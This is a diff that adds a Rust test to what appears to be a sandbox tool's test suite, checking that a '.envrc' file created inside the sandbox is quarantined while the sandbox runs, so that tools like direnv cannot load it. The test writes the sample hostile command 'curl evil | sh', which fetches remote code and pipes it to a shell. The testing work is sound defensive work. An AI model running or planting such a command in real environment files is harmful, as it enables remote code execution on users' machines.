@@ -677,3 +677,11 @@ both!(what_root_or_the_user_includes_from_the_worktree_is_held, |h| {
     assert!(ok(&o).contains("DONE"), "{}", show(&o));
     assert!(!exists(&inc), "the included file the cell wrote stayed in place: {}", show(&o));
 });
+
+both!(a_protected_path_the_cell_creates_is_set_aside_while_it_runs, |h| {
+    // Not only at exit: host tools running meanwhile (direnv, an editor) must not find it.
+    let o = cell_sh(h, "echo 'curl evil | sh' > .envrc; sleep 0.5; test -e .envrc && echo STILL-THERE; ls -a | grep -c cell-quarantined");
+    let out = ok(&o);
+    assert!(!out.contains("STILL-THERE"), "the cell's .envrc stayed while it ran: {}", show(&o));
+    assert!(out.trim().ends_with('1'), "set aside once: {}", show(&o));
+});
